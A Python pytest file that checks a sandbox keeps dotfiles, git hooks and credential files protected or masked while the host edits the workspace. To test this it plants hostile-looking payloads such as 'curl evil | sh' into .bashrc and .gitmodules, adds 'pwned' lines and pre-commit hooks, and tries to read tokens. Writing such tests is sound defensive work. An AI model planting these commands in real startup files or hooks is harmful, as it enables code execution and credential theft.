"""The long-lived sandbox under host-side edits: a protection lost on the host is never lost inside.

A bind mount in another mount namespace is detached when the host unlinks
or renames over its mount point, so an editor's atomic save of
`.gitmodules`, a rewritten `.env` or a removed placeholder would silently
strip a protection from a sandbox that lives on. Between two commands the
host edits the workspace the way real tools do; the next command must
still meet every protection (and the sandbox must have been rebuilt to
give it), and ordinary work must not cause rebuilds.
"""

from __future__ import annotations

import os
import shlex
import shutil
import uuid
from pathlib import Path

import pytest

from codeward import _native
from codeward.sandbox import NativeBashSandbox
from codeward.sandbox._locate import find_bwrap, init_path
from codeward.sandbox._native_runner import _CoreSandbox
from codeward.sandbox._output import CommandOutput


@pytest.fixture
def ws(fs_host_dir: Path) -> Path:
    path = fs_host_dir / "ws"
    path.mkdir()
    (path / "README").write_text("workspace\n")
    return path


@pytest.fixture
def sb(ws: Path):
    with NativeBashSandbox(ws, reuse=True) as box:
        yield box


def run(sb: _CoreSandbox, command: str) -> CommandOutput:
    out = sb.exec(command, timeout_ms=20_000)
    assert out.setup_error is None, out
    return out


def starts(sb: _CoreSandbox) -> int:
    return int(sb._handle.info()["starts"])


def atomic_write(path: Path, text: str) -> None:
    """What editors and tools do: write a temporary file, rename it over the old one."""
    tmp = path.with_name(path.name + ".a3s-tmp")
    tmp.write_text(text)
    os.replace(tmp, path)


def secret() -> str:
    return f"A3S-SECRET-{uuid.uuid4().hex}"


WRITE_ATTEMPT = (
    "echo 'curl evil | sh' > {n} 2>/dev/null; echo planted >> {n} 2>/dev/null; echo tried"
)


def test_ordinary_commands_do_not_rebuild_the_sandbox(sb, ws) -> None:
    run(sb, "mkdir -p src && echo 'int x;' > src/a.c && cp src/a.c src/b.c && rm src/a.c")
    run(sb, "mv src/b.c src/c.c; ls src; touch README")
    (ws / "notes.txt").write_text("host edit of an ordinary file\n")
    atomic_write(ws / "README", "rewritten by the host\n")
    out = run(sb, "cat src/c.c notes.txt README")
    assert "rewritten by the host" in out.stdout, out
    assert starts(sb) == 1, "ordinary edits rebuilt the sandbox"


@pytest.mark.parametrize("name", [".gitmodules", ".mcp.json", ".bashrc"])
def test_protected_file_replaced_by_an_atomic_save_stays_read_only(sb, ws, name) -> None:
    (ws / name).write_text("original\n")
    run(sb, "true")
    atomic_write(ws / name, "saved by the host editor\n")
    out = run(sb, WRITE_ATTEMPT.format(n=name) + f"; cat {name}")
    assert "tried" in out.stdout, out
    assert (ws / name).read_text() == "saved by the host editor\n"
    assert "saved by the host editor" in out.stdout, "the command does not see the new file"
    assert starts(sb) == 2


@pytest.mark.parametrize("rel", [".gitmodules", ".env"])
def test_file_deleted_and_made_again_with_the_same_inode_number(sb, ws, rel) -> None:
    """ext4 hands a freed inode number straight back, so the new file can look like the
    old one to the host (same device, inode, type, link count); its bind is detached all
    the same. The init sees the mount gone and the command runs in a rebuilt sandbox."""
    path = ws / rel
    path.write_text(f"TOKEN={secret()}\n")
    run(sb, "true")
    before = os.lstat(path).st_ino
    path.unlink()
    new = secret()
    path.write_text(f"TOKEN={new}\n")
    reused = os.lstat(path).st_ino == before
    out = run(sb, f"cat {rel}; echo 'echo evil' >> {rel} 2>/dev/null; echo attempted")
    assert "attempted" in out.stdout, out
    assert path.read_text() == f"TOKEN={new}\n", f"written through (inode reused: {reused})"
    if rel == ".env":
        assert new not in out.stdout, f"the new credential was readable (inode reused: {reused})"
    assert starts(sb) == 2


@pytest.mark.parametrize("name", [".bashrc", ".git", ".mcp.json", ".vscode"])
def test_placeholder_removed_on_the_host_is_put_back(fs_force_placeholders, sb, ws, name) -> None:
    run(sb, "true")
    placeholder = ws / name
    assert placeholder.exists(), "no placeholder while the sandbox lives"
    if placeholder.is_dir():
        placeholder.rmdir()
    else:
        placeholder.unlink()
    target = f"{name}/hooks" if name in (".git", ".vscode") else name
    out = run(
        sb,
        f"mkdir -p {name}/hooks 2>/dev/null; "
        + WRITE_ATTEMPT.format(n=shlex.quote(target + ("/x" if "/" in target else ""))),
    )
    assert "tried" in out.stdout, out
    sb.close()
    assert not os.path.lexists(ws / name), f"the command planted {name} on the host"


@pytest.mark.parametrize("name", [".zshrc", ".claude"])
def test_placeholder_replaced_by_a_real_one_on_the_host_is_protected_and_kept(
    fs_force_placeholders, sb, ws, name
) -> None:
    run(sb, "true")
    placeholder = ws / name
    if placeholder.is_dir():
        placeholder.rmdir()
        placeholder.mkdir()
        (placeholder / "settings.json").write_text("{}\n")
        target = f"{name}/settings.json"
    else:
        placeholder.unlink()
        placeholder.write_text("real\n")
        target = name
    out = run(sb, WRITE_ATTEMPT.format(n=target) + f"; touch {name}/new 2>/dev/null; echo done")
    assert "tried" in out.stdout, out
    assert starts(sb) == 2
    sb.close()
    if placeholder.is_dir():
        assert sorted(os.listdir(placeholder)) == ["settings.json"]
        assert (placeholder / "settings.json").read_text() == "{}\n"
    else:
        assert placeholder.read_text() == "real\n", "the user's file was changed or removed"


def test_placeholder_changed_in_place_on_the_host_rebuilds(fs_force_placeholders, sb, ws) -> None:
    """A host tool that makes the placeholder directory writable and adds to it: the
    sandbox is rebuilt, and the directory (now the user's) stays read-only inside."""
    run(sb, "true")
    os.chmod(ws / ".idea", 0o755)
    (ws / ".idea" / "workspace.xml").write_text("<xml/>\n")
    out = run(sb, "echo x > .idea/workspace.xml 2>/dev/null; touch .idea/new 2>/dev/null; echo t")
    assert "t" in out.stdout
    assert (ws / ".idea" / "workspace.xml").read_text() == "<xml/>\n"
    assert not (ws / ".idea" / "new").exists()
    assert starts(sb) == 2


@pytest.mark.parametrize("rel", [".env", "config/.env.local", ".npmrc"])
def test_credential_rewritten_by_the_host_stays_unreadable(sb, ws, rel) -> None:
    path = ws / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"TOKEN={secret()}\n")
    run(sb, "true")
    new = secret()
    atomic_write(path, f"TOKEN={new}\n")
    out = run(sb, f"cat {shlex.quote(rel)}; grep -r TOKEN . ; echo attempted")
    assert "attempted" in out.stdout
    assert new not in out.stdout + out.stderr, "the rewritten credential file was readable"
    assert starts(sb) == 2


def test_credential_created_by_the_host_between_commands_is_masked(sb, ws) -> None:
    run(sb, "true")
    new = secret()
    (ws / "deep" / "er").mkdir(parents=True)
    (ws / "deep" / "er" / ".env.production").write_text(f"KEY={new}\n")
    out = run(sb, "cat deep/er/.env.production; grep -r KEY . ; echo attempted")
    assert "attempted" in out.stdout
    assert new not in out.stdout + out.stderr


def test_credential_symlink_retargeted_by_the_host_masks_the_new_target(sb, ws) -> None:
    first, second = secret(), secret()
    (ws / "a.txt").write_text(first + "\n")
    (ws / "b.txt").write_text(second + "\n")
    (ws / ".env").symlink_to("a.txt")
    out = run(sb, "cat a.txt .env; echo attempted")
    assert first not in out.stdout
    (ws / ".env").unlink()
    (ws / ".env").symlink_to("b.txt")
    out = run(sb, "cat b.txt .env; echo attempted")
    assert "attempted" in out.stdout and second not in out.stdout, out


def test_workspace_directory_replaced_on_the_host(sb, ws) -> None:
    run(sb, "echo one > first.txt")
    old = ws.with_name("ws.old")
    ws.rename(old)
    ws.mkdir()
    out = run(sb, "echo two > second.txt; ls -A; " + WRITE_ATTEMPT.format(n=".bashrc"))
    assert (ws / "second.txt").read_text() == "two\n", "the command did not run in the new one"
    assert not (old / "second.txt").exists()
    assert "first.txt" not in out.stdout, out
    sb.close()
    assert not os.path.lexists(ws / ".bashrc")
    shutil.rmtree(old, ignore_errors=True)


def test_another_spelling_of_a_protected_name_made_on_the_host_is_ordinary(sb, ws) -> None:
    """`.GIT` next to `.git` on a case-sensitive file system is a name no tool reads: it
    costs no rebuild and stays writable, while `.git` itself stays read-only."""
    (ws / ".git").mkdir()
    (ws / ".git" / "config").write_text("[core]\n")
    run(sb, "true")
    (ws / ".GIT" / "hooks").mkdir(parents=True)
    out = run(sb, "echo x > .GIT/hooks/pre-commit; echo evil >> .git/config 2>/dev/null; echo t")
    assert out.stdout == "t\n", out
    assert (ws / ".GIT" / "hooks" / "pre-commit").read_text() == "x\n"
    assert (ws / ".git" / "config").read_text() == "[core]\n"
    assert starts(sb) == 1


def test_hard_link_to_a_protected_file_made_on_the_host_refuses_the_next_command(sb, ws) -> None:
    (ws / ".gitmodules").write_text("[submodule]\n")
    run(sb, "true")
    os.link(ws / ".gitmodules", ws / "alias")
    out = sb.exec("echo evil > alias; echo ran")
    assert out.exit_code == 125 and "hard link" in (out.setup_error or ""), out
    assert (ws / ".gitmodules").read_text() == "[submodule]\n"
    (ws / "alias").unlink()
    assert run(sb, "echo ran").stdout == "ran\n"


@pytest.mark.parametrize("where", [".git/hooks/pre-commit", "sub/.ssh/id_ed25519"])
def test_hard_link_into_a_protected_or_masked_directory_made_on_the_host(sb, ws, where) -> None:
    """Under a protected or masked directory, a file with a second name in the workspace
    would be written or read through that name. The host links one in between commands."""
    inside = ws / where
    inside.parent.mkdir(parents=True)
    (inside.parent / "keep").write_text("x\n")
    run(sb, "true")
    (ws / "innocent").write_text("#!/bin/sh\necho host\n")
    os.link(ws / "innocent", inside)
    out = sb.exec("echo 'echo pwned' >> innocent; cat innocent; echo ran")
    if where.startswith(".git/"):  # a protected directory: only the host links in there
        assert out.exit_code == 125 and "hard links" in (out.setup_error or ""), out
    else:  # a masked one: the sandbox was rebuilt with every name of the file masked
        assert out.stdout == "ran\n" and starts(sb) == 2, out
    assert (ws / "innocent").read_text() == "#!/bin/sh\necho host\n"


def test_toolchain_credentials_created_after_the_start_are_masked(ws, tmp_path) -> None:
    """Cargo keeps its registry token inside CARGO_HOME, which is re-exposed read-only
    from the masked home; a token file that appears later must be masked too."""
    home = tmp_path / "home"
    cargo = home / ".cargo"
    (cargo / "bin").mkdir(parents=True)
    env = [f"HOME={home}", f"CARGO_HOME={cargo}", "PATH=/usr/local/bin:/usr/bin:/bin"]
    handle = _native.Sandbox(
        str(ws), init_path(), bwrap=find_bwrap(str(ws)), host_env=env, reuse=True
    )
    sb = _CoreSandbox(ws, _handle=handle)
    try:
        out = run(sb, f"ls {cargo}; echo listed")
        assert "bin" in out.stdout, "CARGO_HOME is not re-exposed"
        token = secret()
        (cargo / "credentials.toml").write_text(f'[registry]\ntoken = "{token}"\n')
        out = run(sb, f"cat {cargo}/credentials.toml; echo attempted")
        assert "attempted" in out.stdout and token not in out.stdout, out
    finally:
        sb.close()
